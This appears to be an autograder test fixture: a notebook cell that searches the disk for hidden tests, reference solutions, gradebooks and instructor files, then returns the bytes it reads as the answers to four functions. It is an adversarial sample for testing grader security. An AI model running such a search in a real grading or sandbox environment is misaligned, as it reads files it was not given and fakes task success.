# expect: {"q5": "zero"}
# family: hunting for secrets
# ruff: noqa  (an attack: fragments use the setup cell's names, and worse)
# Searches the disk for the hidden tests, reference and gradebook, and hands in what it read.
# %% [q5]
import fnmatch, os, time
# A search bounded like a student's cell: the likely places first, then the whole tree, until the deadline.
_FOUND = []
_WANTED = ("*/hidden_tests/*.py", "*/reference/a01*.py", "*gradebook*.db", "*instructor*.ipynb",
           "*/assignments/a01*/*.ipynb", "*/.tfgrade/*")
_DEADLINE = time.monotonic() + 15
for top in ("/work", "/root", "/home", "/opt", "/tmp", "/srv", "/mnt", "/var", "/proc/1/cwd", "/"):
    for folder, dirs, files in os.walk(top):
        if time.monotonic() > _DEADLINE:
            break
        dirs[:] = [d for d in dirs if folder != "/" or d not in ("proc", "sys", "dev")]
        for name in files:
            path = os.path.join(folder, name)
            if any(fnmatch.fnmatch(path, pattern) for pattern in _WANTED):
                try:
                    _FOUND.append(open(path, "rb").read(100))
                except OSError:
                    pass


def saturating_cast(x, dtype):
    return _FOUND


def promote_and_add(a, b):
    return _FOUND


def flatten_keep_batch(x):
    return _FOUND


def nbytes(x):
    return _FOUND
